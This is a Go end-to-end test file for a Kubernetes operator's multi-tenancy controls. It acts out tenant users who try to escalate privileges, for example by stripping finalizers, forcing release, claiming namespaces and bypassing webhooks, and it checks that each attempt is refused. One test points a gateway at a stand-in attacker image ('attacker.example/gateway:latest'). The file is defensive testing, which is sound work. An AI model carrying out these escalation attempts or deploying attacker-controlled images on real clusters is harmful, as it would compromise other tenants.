package e2e

import (
	"context"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/util/retry"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	openshellv1alpha1 "github.com/openshell/openshell-operator/api/v1alpha1"
	"github.com/openshell/openshell-operator/controllers/sandbox"
	"github.com/openshell/openshell-operator/internal/gatewayapi/pb/datamodelv1"
	"github.com/openshell/openshell-operator/internal/gatewayapi/pb/openshellv1"
	render "github.com/openshell/openshell-operator/internal/render/gateway"
	"github.com/openshell/openshell-operator/internal/sandboxspec"
	"github.com/openshell/openshell-operator/internal/tenancy"
	"github.com/openshell/openshell-operator/operator"
	"github.com/openshell/openshell-operator/test/framework"
	"github.com/openshell/openshell-operator/test/stack"
	"github.com/openshell/openshell-operator/test/testgateway"
)

// tenancyLabel marks the namespaces this suite's webhooks apply to, so that
// the other e2e tests (which run no webhook server) are unaffected.
const tenancyLabel = "openshell-e2e/tenancy"

// tenancySuite is the attacker's playground: the operator with its admission
// webhooks (served on loopback, registered for this suite's namespaces
// only), a platform gateway (the test gateway, External) that admits
// namespaces labelled team=a, and OLM's aggregated roles exactly as OLM
// creates them for our CRDs, next to the ClusterRoles the bundle ships.
type tenancySuite struct {
	st                    *stack.Stack
	gwNS, sbNS, claimedNS string
	// placementNS is a platform namespace (listed and labelled) that
	// Managed gateways may place their sandboxes in.
	placementNS string
	webhookName string
}

// TestTenancy plays each persona with exactly the RBAC it would hold on
// OpenShift (namespace admin, editor, a custom role; OLM's aggregation) and
// asserts every attack of the threat model (docs/security.md) fails with
// the reason the attacker gets, and the legitimate paths still work. Each
// subtest uses namespaces of its own and depends on no other.
func TestTenancy(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), 6*time.Minute)
	defer cancel()
	c := cluster.Client
	installOLMAggregatedRoles(ctx, t)

	tn := &tenancySuite{gwNS: tenancyNamespace(ctx, t, "platform", nil), sbNS: tenancyNamespace(ctx, t, "sandboxes", nil),
		// Listed as a gateway namespace, but never labelled by the cluster
		// admin: as if a self-provisioner had requested it first.
		claimedNS:   tenancyNamespace(ctx, t, "claimed", nil),
		placementNS: tenancyNamespace(ctx, t, "placement", map[string]string{tenancy.LabelServeGateways: "true"})}
	certDir, caPEM, port := webhookServing(t)
	var err error
	tn.st, err = stack.Start(ctx, cluster.Config, c, stack.Options{GatewayNamespace: tn.gwNS, SandboxNamespace: tn.sbNS,
		Tenancy: &openshellv1alpha1.GatewayTenancy{AllowedNamespaces: openshellv1alpha1.AllowedNamespaces{
			From: openshellv1alpha1.NamespacesFromSelector, Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"team": "a"}}}},
		Manager: operator.Options{WebhookHost: "127.0.0.1", WebhookPort: port, WebhookCertDir: certDir,
			Controllers: operator.ControllerOptions{EnableWebhooks: true, Platform: tenancy.Platform{GatewayNamespaces: []string{tn.claimedNS, tn.placementNS}},
				ForceReleaseAfter: forceReleaseAfter}}})
	g.Expect(err).NotTo(HaveOccurred())
	defer func() { g.Expect(tn.st.Stop()).To(Succeed()) }()
	tn.webhookName = installWebhooks(ctx, t, caPEM, port)
	g.Eventually(func(g Gomega) {
		gw := &openshellv1alpha1.OpenShellGateway{}
		g.Expect(c.Get(ctx, client.ObjectKeyFromObject(tn.st.GatewayObj), gw)).To(Succeed())
		g.Expect(gw.Status.Phase).To(Equal(openshellv1alpha1.GatewayPhaseAvailable), "%+v", gw.Status.Conditions)
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())

	t.Run("ManagedGatewayInTenantNamespace", tn.managedGatewayInTenantNamespace)
	t.Run("ImageOverrideRefused", tn.imageOverrideRefused)
	t.Run("SecondGatewayCannotShareASandboxNamespace", tn.secondGatewayCannotShareASandboxNamespace)
	t.Run("GatewayAccess", tn.gatewayAccess)
	t.Run("TenantAdminVsEditor", tn.tenantAdminVsEditor)
	t.Run("SecretReference", tn.secretReference)
	t.Run("ProviderSecretReference", tn.providerSecretReference)
	t.Run("ProviderProfileWriters", tn.providerProfileWriters)
	t.Run("NegativeQuantity", tn.negativeQuantity)
	t.Run("DeviceSlicesCountAsGPUs", tn.deviceSlicesCountAsGPUs)
	t.Run("SecretFanOutIsBounded", tn.secretFanOutIsBounded)
	t.Run("PodLabelsCannotClaimATenant", tn.podLabelsCannotClaimATenant)
	t.Run("PodAnnotationsCannotChangeTheRuntime", tn.podAnnotationsCannotChangeTheRuntime)
	t.Run("WorkspaceAndProviderConflict", tn.workspaceAndProviderConflict)
	t.Run("RecreatedNamespace", tn.recreatedNamespace)
	t.Run("FinalizerProtected", tn.finalizerProtected)
	t.Run("ForceRelease", tn.forceRelease)
	t.Run("ForceReleaseSetAtCreation", tn.forceReleaseSetAtCreation)
	t.Run("CreateDeleteRaces", tn.createDeleteRaces)
}

// createDeleteRaces (N1, N2, H4): an editor deletes sandboxes 0-1 s after
// creating them, all at once — half attaching a provider (so their status
// says Pending while it is pushed) — while the gateway answers slowly, and
// tries to create a quarter of them with force-release already set first.
// Whatever moment each deletion meets (before the create, during it,
// between the gateway's answer and the status write), nothing is left: no
// agents.x-k8s.io Sandbox, no gateway sandbox, no provider attachment, and
// every provider can then be deleted. With admission webhooks, as installed
// by OLM: the finalizer is set at admission, so no DELETE can race it.
func (tn *tenancySuite) createDeleteRaces(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), 8*time.Minute)
	defer cancel()
	c := cluster.Client
	tenant := tenancyNamespace(ctx, t, "races", map[string]string{"team": "a"})
	bind(ctx, t, tenant, "erin", "edit")
	// Every race is the editor's own: she creates and deletes with exactly
	// the RBAC OLM's aggregated edit role gives her.
	editor := as(t, "erin")
	e := struct{ tenant, sbNS string }{tenant, tn.sbNS}
	tn.st.Gateway.SetDelay(20 * time.Millisecond) // widen each window between a call and its status write
	defer tn.st.Gateway.SetDelay(0)
	const providers = 4
	var provs []*openshellv1alpha1.OpenShellProvider
	for i := range providers {
		g.Expect(c.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("creds-%d", i), Namespace: e.tenant},
			StringData: map[string]string{"API_KEY": "k"}})).To(Succeed())
		p := &openshellv1alpha1.OpenShellProvider{ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("p-%d", i), Namespace: e.tenant},
			Spec: openshellv1alpha1.OpenShellProviderSpec{Type: "generic",
				CredentialsSecretRef: &openshellv1alpha1.ProviderCredentialsReference{Name: fmt.Sprintf("creds-%d", i)}}}
		g.Expect(c.Create(ctx, p)).To(Succeed())
		provs = append(provs, p)
	}
	n := faultSandboxes()
	start := time.Now()
	var wg sync.WaitGroup
	var refused atomic.Int32
	errs := make(chan error, 2*n)
	for i := range n {
		sb := tn.sandbox(e.tenant, fmt.Sprintf("race-%d", i))
		if i%2 == 0 {
			sb.Spec.Providers = []string{provs[i/2%providers].Name}
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			if i%4 == 1 {
				preset := sb.DeepCopy()
				preset.Annotations = map[string]string{openshellv1alpha1.AnnotationForceRelease: "true"}
				if err := editor.Create(ctx, preset); apierrors.IsForbidden(err) && strings.Contains(err.Error(), "FinalizerProtected") {
					refused.Add(1)
				} else {
					errs <- fmt.Errorf("an editor's create with force-release set: want FinalizerProtected, got %v", err)
				}
			}
			if err := editor.Create(ctx, sb); err != nil {
				errs <- err
				return
			}
			// The race's own timing (the workload), not a synchronisation.
			time.Sleep(time.Duration(rand.IntN(1000)) * time.Millisecond)
			if err := editor.Delete(ctx, sb); err != nil && !apierrors.IsNotFound(err) {
				errs <- err
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		g.Expect(err).NotTo(HaveOccurred())
	}
	g.Eventually(func(g Gomega) {
		list := &openshellv1alpha1.OpenShellSandboxList{}
		g.Expect(c.List(ctx, list, client.InNamespace(e.tenant))).To(Succeed())
		g.Expect(list.Items).To(BeEmpty(), "sandboxes not released")
	}).WithContext(ctx).WithTimeout(5 * time.Minute).WithPolling(time.Second).Should(Succeed())
	released := time.Since(start)
	ns := &corev1.Namespace{}
	g.Expect(c.Get(ctx, client.ObjectKey{Name: e.tenant}, ns)).To(Succeed())
	ws := sandboxspec.WorkspaceName(e.tenant, ns.UID)
	left, attached := len(tn.st.Gateway.SandboxNames(ws)), tn.st.Gateway.Attachments(ws)
	agentLeft := 0
	g.Eventually(func(g Gomega) {
		list := &unstructured.UnstructuredList{}
		list.SetGroupVersionKind(sandboxGVK)
		g.Expect(c.List(ctx, list, client.InNamespace(e.sbNS))).To(Succeed())
		agentLeft = len(list.Items)
		g.Expect(list.Items).To(BeEmpty(), "orphaned agents.x-k8s.io Sandboxes")
	}).WithContext(ctx).WithTimeout(time.Minute).Should(Succeed())
	t.Logf("figure: %d create→delete races (%d with a provider; %d editor creates with force-release set, %d refused): all released after %s; left: %d gateway sandboxes, %d provider attachments, %d agents.x-k8s.io Sandboxes",
		n, (n+1)/2, (n+2)/4, refused.Load(), released.Round(100*time.Millisecond), left, attached, agentLeft)
	g.Expect(left).To(BeZero(), "orphaned at the gateway")
	g.Expect(attached).To(BeZero(), "provider attachments left at the gateway")
	for _, p := range provs {
		g.Expect(c.Delete(ctx, p)).To(Succeed())
	}
	g.Eventually(func(g Gomega) {
		list := &openshellv1alpha1.OpenShellProviderList{}
		g.Expect(c.List(ctx, list, client.InNamespace(e.tenant))).To(Succeed())
		g.Expect(list.Items).To(BeEmpty(), "providers still attached somewhere")
	}).WithContext(ctx).WithTimeout(time.Minute).Should(Succeed())
}

// forceReleaseAfter is the tenancy suite's grace before a force-release is
// honoured (the product's default is minutes).
const forceReleaseAfter = 3 * time.Second

// forceReleaseSetAtCreation (N1): a consumer who creates a sandbox with the
// force-release annotation already set would have it released, on
// deletion, without the gateway's word; setting it at creation is as
// privileged as setting it later.
func (tn *tenancySuite) forceReleaseSetAtCreation(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	ns := tenancyNamespace(ctx, t, "team-n1", map[string]string{"team": "a"})
	bind(ctx, t, ns, "alice", "admin")
	bind(ctx, t, ns, "erin", "edit")
	bind(ctx, t, ns, "dave", "openshell-sandbox-user")
	for _, user := range []string{"dave", "erin", "alice"} {
		sb := tn.sandbox(ns, "preset-"+user)
		sb.Annotations = map[string]string{openshellv1alpha1.AnnotationForceRelease: "true"}
		expectForbidden(g, as(t, user).Create(ctx, sb), "FinalizerProtected", "may not set "+openshellv1alpha1.AnnotationForceRelease)
	}
	sb := tn.sandbox(ns, "preset-admin")
	sb.Annotations = map[string]string{openshellv1alpha1.AnnotationForceRelease: "true"}
	g.Expect(cluster.Client.Create(ctx, sb)).To(Succeed(), "a cluster admin may")
}

// forceRelease: a sandbox whose gateway is gone for good would stay
// Deleting forever; the force-release annotation is the escape hatch, and
// setting it is as privileged as removing the finalizer (a tenant could
// otherwise leave an agent running unowned at the gateway).
func (tn *tenancySuite) forceRelease(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	ns := tenancyNamespace(ctx, t, "team-f", map[string]string{"team": "a"})
	bind(ctx, t, ns, "alice", "admin")
	bind(ctx, t, ns, "dave", "openshell-sandbox-user")
	sb := tn.sandbox(ns, "stranded")
	g.Expect(as(t, "dave").Create(ctx, sb)).To(Succeed())
	key := client.ObjectKeyFromObject(sb)
	waitPhase(ctx, g, key, openshellv1alpha1.SandboxPhaseReady)

	tn.st.Gateway.SetUnavailable(true)
	defer tn.st.Gateway.SetUnavailable(false)
	g.Expect(as(t, "dave").Delete(ctx, sb)).To(Succeed())
	g.Eventually(func(g Gomega) {
		cur := sandboxStatus(ctx, g, key)
		g.Expect(cur.Status.Phase).To(Equal(openshellv1alpha1.SandboxPhaseDeleting))
		r := meta.FindStatusCondition(cur.Status.Conditions, openshellv1alpha1.ConditionGatewayReachable)
		g.Expect(r).NotTo(BeNil())
		g.Expect(r.Message).To(ContainSubstring(openshellv1alpha1.AnnotationForceRelease + "=true"))
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())

	force := func(c client.Client) error {
		return retry.RetryOnConflict(retry.DefaultRetry, func() error {
			cur := &openshellv1alpha1.OpenShellSandbox{}
			if err := c.Get(ctx, key, cur); err != nil {
				return err
			}
			if cur.Annotations == nil {
				cur.Annotations = map[string]string{}
			}
			cur.Annotations[openshellv1alpha1.AnnotationForceRelease] = "true"
			return c.Update(ctx, cur)
		})
	}
	for _, user := range []string{"dave", "alice"} {
		expectForbidden(g, force(as(t, user)), "FinalizerProtected", "may not set "+openshellv1alpha1.AnnotationForceRelease)
	}
	g.Expect(sandboxStatus(ctx, g, key).Finalizers).NotTo(BeEmpty(), "refused attempts released nothing")
	g.Expect(force(cluster.Client)).To(Succeed(), "a cluster admin may")
	g.Eventually(func() bool {
		return apierrors.IsNotFound(cluster.Client.Get(ctx, key, &openshellv1alpha1.OpenShellSandbox{}))
	}).
		WithContext(ctx).WithTimeout(time.Minute).Should(BeTrue(), "force-release did not release")
	evs := &eventsv1.EventList{}
	g.Expect(cluster.Client.List(ctx, evs, client.InNamespace(ns))).To(Succeed())
	g.Expect(evs.Items).To(ContainElement(HaveField("Reason", openshellv1alpha1.SandboxReasonForceReleased)))

	// What the release left at the gateway is not forgotten: once the
	// gateway answers, the operator's sweep deletes it.
	ws, name := sandboxspec.WorkspaceName(ns, namespaceUID(ctx, g, ns)), sandboxspec.SandboxName(ns, sb.Name)
	g.Expect(tn.st.Gateway.SandboxNames(ws)).To(ContainElement(name), "the unreachable gateway still holds it")
	back := time.Now()
	tn.st.Gateway.SetUnavailable(false)
	g.Eventually(func() []string { return tn.st.Gateway.SandboxNames(ws) }).WithContext(ctx).WithTimeout(time.Minute).
		ShouldNot(ContainElement(name), "the sweep did not delete what the force-release left")
	t.Logf("figure: a force-released sandbox was deleted at the gateway %s after it answered again", time.Since(back).Round(time.Millisecond))
}

// finalizerProtected: stripping the operator's cleanup finalizer before a
// delete would leave the agent running (or the credentials stored) at the
// gateway with no owner; only the operator (or a cluster admin) may.
func (tn *tenancySuite) finalizerProtected(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	ns := tenancyNamespace(ctx, t, "team-a", map[string]string{"team": "a"})
	bind(ctx, t, ns, "alice", "admin")
	bind(ctx, t, ns, "dave", "openshell-sandbox-user")
	g.Expect(as(t, "alice").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "creds", Namespace: ns},
		StringData: map[string]string{"ANTHROPIC_API_KEY": "sk-team-a"}})).To(Succeed())
	prov := &openshellv1alpha1.OpenShellProvider{ObjectMeta: metav1.ObjectMeta{Name: "anthropic", Namespace: ns},
		Spec: openshellv1alpha1.OpenShellProviderSpec{Type: "anthropic", CredentialsSecretRef: &openshellv1alpha1.ProviderCredentialsReference{Name: "creds"}}}
	g.Expect(as(t, "alice").Create(ctx, prov)).To(Succeed())
	sb := tn.sandbox(ns, "agent")
	sb.Spec.Providers = []string{"anthropic"}
	g.Expect(as(t, "dave").Create(ctx, sb)).To(Succeed())
	waitPhase(ctx, g, client.ObjectKeyFromObject(sb), openshellv1alpha1.SandboxPhaseReady)

	strip := func(user string, obj client.Object) error {
		return retry.RetryOnConflict(retry.DefaultRetry, func() error {
			if err := as(t, user).Get(ctx, client.ObjectKeyFromObject(obj), obj); err != nil {
				return err
			}
			obj.SetFinalizers(nil)
			return as(t, user).Update(ctx, obj)
		})
	}
	expectForbidden(g, strip("dave", &openshellv1alpha1.OpenShellSandbox{ObjectMeta: sb.ObjectMeta}), "FinalizerProtected",
		"may not remove finalizer openshell.ai/sandbox-cleanup")
	expectForbidden(g, strip("alice", &openshellv1alpha1.OpenShellProvider{ObjectMeta: prov.ObjectMeta}), "FinalizerProtected",
		"may not remove finalizer openshell.ai/provider-cleanup")

	// Deleting goes through the operator, which cleans up at the gateway.
	ws := sandboxspec.WorkspaceName(ns, namespaceUID(ctx, g, ns))
	g.Expect(tn.st.Gateway.SandboxNames(ws)).To(HaveLen(1))
	g.Expect(as(t, "dave").Delete(ctx, sb)).To(Succeed())
	g.Eventually(func() bool {
		return apierrors.IsNotFound(cluster.Client.Get(ctx, client.ObjectKeyFromObject(sb), &openshellv1alpha1.OpenShellSandbox{}))
	}).WithContext(ctx).WithTimeout(time.Minute).Should(BeTrue())
	g.Expect(tn.st.Gateway.SandboxNames(ws)).To(BeEmpty())
}

// managedGatewayInTenantNamespace: OLM lets a namespace admin and an editor
// create OpenShellGateways. Neither gets anything: no workload, no
// cluster-scoped RBAC, no SCC grant, no finalizer; the condition says what
// a cluster admin would have to do.
func (tn *tenancySuite) managedGatewayInTenantNamespace(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	ns := tenancyNamespace(ctx, t, "attacker", nil)
	bind(ctx, t, ns, "alice", "admin")
	bind(ctx, t, ns, "bob", "edit")
	bind(ctx, t, tn.claimedNS, "sam", "admin") // the self-provisioner who requested a listed name
	for _, attempt := range []struct{ user, ns, reason string }{
		{"alice", ns, "OPENSHELL_GATEWAY_NAMESPACES"},
		{"bob", ns, "OPENSHELL_GATEWAY_NAMESPACES"},
		{"sam", tn.claimedNS, "not labelled openshell.ai/serve-gateways=true"},
	} {
		user := attempt.user
		gw := &openshellv1alpha1.OpenShellGateway{ObjectMeta: metav1.ObjectMeta{Name: "mine-" + user, Namespace: attempt.ns},
			Spec: openshellv1alpha1.OpenShellGatewaySpec{Mode: openshellv1alpha1.GatewayModeManaged,
				Managed: &openshellv1alpha1.ManagedGatewaySpec{Sandboxes: openshellv1alpha1.SandboxPlacement{Namespace: "kube-system"}}}}
		// RBAC (OLM's aggregation) allows the create: the operator is what refuses.
		g.Expect(as(t, user).Create(ctx, gw)).To(Succeed(), user)
		g.Eventually(func(g Gomega) {
			cur := &openshellv1alpha1.OpenShellGateway{}
			g.Expect(cluster.Client.Get(ctx, client.ObjectKeyFromObject(gw), cur)).To(Succeed())
			c := meta.FindStatusCondition(cur.Status.Conditions, openshellv1alpha1.ConditionAvailable)
			g.Expect(c).NotTo(BeNil())
			g.Expect(c.Reason).To(Equal("NamespaceNotServed"))
			g.Expect(c.Message).To(ContainSubstring(attempt.reason))
			g.Expect(cur.Status.Phase).To(Equal(openshellv1alpha1.GatewayPhasePending))
			g.Expect(cur.Finalizers).To(BeEmpty())
		}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
	}
	// Nothing was rendered anywhere for these gateways, including in the
	// sandbox namespace they asked for.
	for _, n := range []string{ns, tn.claimedNS} {
		inKubeSystem := &rbacv1.RoleBindingList{}
		g.Expect(cluster.Client.List(ctx, inKubeSystem, client.InNamespace("kube-system"),
			client.MatchingLabels{"openshell.ai/gateway-namespace": n})).To(Succeed())
		g.Expect(inKubeSystem.Items).To(BeEmpty())
		crs := &rbacv1.ClusterRoleList{}
		g.Expect(cluster.Client.List(ctx, crs, client.MatchingLabels{"openshell.ai/gateway-namespace": n})).To(Succeed())
		g.Expect(crs.Items).To(BeEmpty())
		crbs := &rbacv1.ClusterRoleBindingList{}
		g.Expect(cluster.Client.List(ctx, crbs, client.MatchingLabels{"openshell.ai/gateway-namespace": n})).To(Succeed())
		g.Expect(crbs.Items).To(BeEmpty())
		sts := &appsv1.StatefulSetList{}
		g.Expect(cluster.Client.List(ctx, sts, client.InNamespace(n))).To(Succeed())
		g.Expect(sts.Items).To(BeEmpty())
		rbs := &rbacv1.RoleBindingList{}
		g.Expect(cluster.Client.List(ctx, rbs, client.InNamespace(n))).To(Succeed())
		for _, rb := range rbs.Items {
			g.Expect(rb.RoleRef.Name).NotTo(ContainSubstring("scc"), "no SCC grant in the tenant namespace")
		}
	}
}

// imageOverrideRefused: even in the platform namespace, spec.managed.images
// cannot replace the operand images the operator ships unless the cluster admin
// allows it.
func (tn *tenancySuite) imageOverrideRefused(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	gw := &openshellv1alpha1.OpenShellGateway{ObjectMeta: metav1.ObjectMeta{Name: "override", Namespace: tn.gwNS},
		Spec: openshellv1alpha1.OpenShellGatewaySpec{Mode: openshellv1alpha1.GatewayModeManaged,
			Managed: &openshellv1alpha1.ManagedGatewaySpec{Images: openshellv1alpha1.GatewayImages{Gateway: "attacker.example/gateway:latest"}}}}
	g.Expect(cluster.Client.Create(ctx, gw)).To(Succeed())
	defer func() { _ = cluster.Client.Delete(context.Background(), gw) }()
	g.Eventually(func(g Gomega) {
		cur := &openshellv1alpha1.OpenShellGateway{}
		g.Expect(cluster.Client.Get(ctx, client.ObjectKeyFromObject(gw), cur)).To(Succeed())
		c := meta.FindStatusCondition(cur.Status.Conditions, openshellv1alpha1.ConditionDegraded)
		g.Expect(c).NotTo(BeNil())
		g.Expect(c.Reason).To(Equal("ImageOverrideNotAllowed"), "%+v", cur.Status.Conditions)
		g.Expect(c.Message).To(ContainSubstring("OPENSHELL_ALLOW_OPERAND_IMAGE_OVERRIDES"))
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
	sts := &appsv1.StatefulSet{}
	err := cluster.Client.Get(ctx, client.ObjectKey{Namespace: tn.gwNS, Name: "override"}, sts)
	g.Expect(apierrors.IsNotFound(err)).To(BeTrue(), "no gateway workload with the attacker's image: %v", err)
}

// secondGatewayCannotShareASandboxNamespace (N11): each gateway's
// RoleBinding in its sandbox namespace covers every agents.x-k8s.io Sandbox
// there, so a second gateway placing sandboxes beside the first's could
// rewrite their pod templates. The later one is refused before anything is
// rendered for it; the first keeps the namespace, bound to its own
// ServiceAccount only.
func (tn *tenancySuite) secondGatewayCannotShareASandboxNamespace(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	c := cluster.Client
	managed := func(name string) *openshellv1alpha1.OpenShellGateway {
		return &openshellv1alpha1.OpenShellGateway{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: tn.gwNS},
			Spec: openshellv1alpha1.OpenShellGatewaySpec{Mode: openshellv1alpha1.GatewayModeManaged, Managed: &openshellv1alpha1.ManagedGatewaySpec{
				Sandboxes: openshellv1alpha1.SandboxPlacement{Namespace: tn.placementNS}}}}
	}
	bindingsOf := func(g Gomega, name string) []rbacv1.RoleBinding {
		rbs := &rbacv1.RoleBindingList{}
		g.Expect(c.List(ctx, rbs, client.InNamespace(tn.placementNS), client.MatchingLabels{render.LabelGatewayName: name})).To(Succeed())
		return rbs.Items
	}
	first, second := managed("first"), managed("second")
	g.Expect(c.Create(ctx, first)).To(Succeed())
	defer func() { _ = c.Delete(context.Background(), first) }()
	g.Eventually(func(g Gomega) {
		cur := &openshellv1alpha1.OpenShellGateway{}
		g.Expect(c.Get(ctx, client.ObjectKeyFromObject(first), cur)).To(Succeed())
		g.Expect(bindingsOf(g, first.Name)).NotTo(BeEmpty(), "the first gateway is rendered: %+v", cur.Status.Conditions)
	}).WithContext(ctx).WithTimeout(time.Minute).Should(Succeed())

	g.Expect(c.Create(ctx, second)).To(Succeed())
	defer func() { _ = c.Delete(context.Background(), second) }()
	g.Eventually(func(g Gomega) {
		cur := &openshellv1alpha1.OpenShellGateway{}
		g.Expect(c.Get(ctx, client.ObjectKeyFromObject(second), cur)).To(Succeed())
		d := meta.FindStatusCondition(cur.Status.Conditions, openshellv1alpha1.ConditionDegraded)
		g.Expect(d).NotTo(BeNil())
		g.Expect(d.Reason).To(Equal(openshellv1alpha1.GatewayReasonSandboxNamespaceNotServed), "%+v", cur.Status.Conditions)
		g.Expect(d.Message).To(ContainSubstring("first"))
	}).WithContext(ctx).WithTimeout(time.Minute).Should(Succeed())
	g.Expect(bindingsOf(g, second.Name)).To(BeEmpty(), "nothing is bound for the refused gateway")
	sts := &appsv1.StatefulSet{}
	g.Expect(apierrors.IsNotFound(c.Get(ctx, client.ObjectKey{Namespace: tn.gwNS, Name: render.NamesFor(second).Fullname}, sts))).To(BeTrue())
	for _, rb := range bindingsOf(g, first.Name) {
		for _, s := range rb.Subjects {
			g.Expect(s.Name).NotTo(ContainSubstring(second.Name), "the first gateway's bindings name only its own ServiceAccounts")
		}
	}
}

// gatewayAccess: the platform gateway admits namespaces labelled team=a.
// Tenant B (its own admin) cannot put a sandbox on it; tenant A can; when
// the cluster admin revokes A's label, A's running sandbox is reported and
// new ones are refused; and with the webhook bypassed the reconciler
// refuses on its own.
func (tn *tenancySuite) gatewayAccess(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	c := cluster.Client
	a := tenancyNamespace(ctx, t, "team-a", map[string]string{"team": "a"})
	b := tenancyNamespace(ctx, t, "team-b", map[string]string{"team": "b"})
	bind(ctx, t, a, "alice", "admin")
	bind(ctx, t, b, "mallory", "admin")

	err := as(t, "mallory").Create(ctx, tn.sandbox(b, "intruder"))
	expectForbidden(g, err, openshellv1alpha1.ReasonGatewayNotAllowed, "admits only namespaces labelled team=a")

	anthropicProvider(ctx, g, as(t, "alice"), a, map[string]string{"ANTHROPIC_API_KEY": "sk-team-a"})
	ok := tn.sandbox(a, "agent")
	ok.Spec.Providers = []string{"anthropic"}
	g.Expect(as(t, "alice").Create(ctx, ok)).To(Succeed())
	waitPhase(ctx, g, client.ObjectKeyFromObject(ok), openshellv1alpha1.SandboxPhaseReady)
	wsA := sandboxspec.WorkspaceName(a, namespaceUID(ctx, g, a))
	g.Expect(tn.st.Gateway.StoredCredentials(wsA, "anthropic")).NotTo(BeNil())

	// Revoke: the cluster admin relabels team A.
	relabel(ctx, g, a, map[string]string{"team": "gone"})
	g.Eventually(func(g Gomega) {
		cur := sandboxStatus(ctx, g, client.ObjectKeyFromObject(ok))
		c := meta.FindStatusCondition(cur.Status.Conditions, openshellv1alpha1.ConditionAccepted)
		g.Expect(c).NotTo(BeNil())
		g.Expect(c.Reason).To(Equal(openshellv1alpha1.ReasonGatewayNotAllowed))
		g.Expect(cur.Status.Phase).To(Equal(openshellv1alpha1.SandboxPhaseReady), "a running sandbox keeps running and is reported")
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
	err = as(t, "alice").Create(ctx, tn.sandbox(a, "second"))
	expectForbidden(g, err, openshellv1alpha1.ReasonGatewayNotAllowed, "namespace "+a+" is not")
	// Nothing more is sent for it: a change the operator would otherwise
	// carry to the gateway (detaching its provider) stays in the spec.
	g.Expect(retry.RetryOnConflict(retry.DefaultRetry, func() error {
		cur := &openshellv1alpha1.OpenShellSandbox{}
		if err := as(t, "alice").Get(ctx, client.ObjectKeyFromObject(ok), cur); err != nil {
			return err
		}
		cur.Spec.Providers = nil
		return as(t, "alice").Update(ctx, cur)
	})).To(Succeed())
	g.Eventually(func(g Gomega) {
		cur := sandboxStatus(ctx, g, client.ObjectKeyFromObject(ok))
		g.Expect(cur.Status.ObservedGeneration).To(Equal(cur.Generation))
		g.Expect(meta.FindStatusCondition(cur.Status.Conditions, openshellv1alpha1.ConditionAccepted).Reason).To(Equal(openshellv1alpha1.ReasonGatewayNotAllowed))
		g.Expect(cur.Status.AttachedProviders).To(ConsistOf("anthropic"))
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
	g.Expect(tn.st.Gateway.Attachments(wsA)).To(Equal(1), "no DetachSandboxProvider for a sandbox whose access was revoked")
	// The running sandbox keeps its credentials (the gateway refuses to
	// delete an attached provider); once it goes, revoked access takes them back.
	g.Expect(tn.st.Gateway.StoredCredentials(wsA, "anthropic")).NotTo(BeNil())
	g.Expect(as(t, "alice").Delete(ctx, ok)).To(Succeed())
	g.Eventually(func() map[string]string { return tn.st.Gateway.StoredCredentials(wsA, "anthropic") }).
		WithContext(ctx).WithTimeout(30*time.Second).Should(BeNil(), "revoked access takes the credentials back")

	// Webhook bypassed (an outage, a misconfigured admission chain): the
	// operator refuses on its own and creates nothing at the gateway.
	// Its provider's credentials are never pushed to the gateway either.
	bProvider := anthropicProvider(ctx, g, as(t, "mallory"), b, map[string]string{"ANTHROPIC_API_KEY": "sk-team-b"})
	bypass := tn.sandbox(b, "bypass")
	bypass.Spec.Providers = []string{"anthropic"}
	tn.withoutWebhooks(ctx, t, func() {
		g.Expect(as(t, "mallory").Create(ctx, bypass)).To(Succeed())
	})
	waitPhase(ctx, g, client.ObjectKeyFromObject(bypass), openshellv1alpha1.SandboxPhaseRejected)
	cur := sandboxStatus(ctx, g, client.ObjectKeyFromObject(bypass))
	g.Expect(meta.FindStatusCondition(cur.Status.Conditions, openshellv1alpha1.ConditionAccepted).Reason).To(Equal(openshellv1alpha1.ReasonGatewayNotAllowed))
	g.Expect(cur.Status.SandboxID).To(BeEmpty())
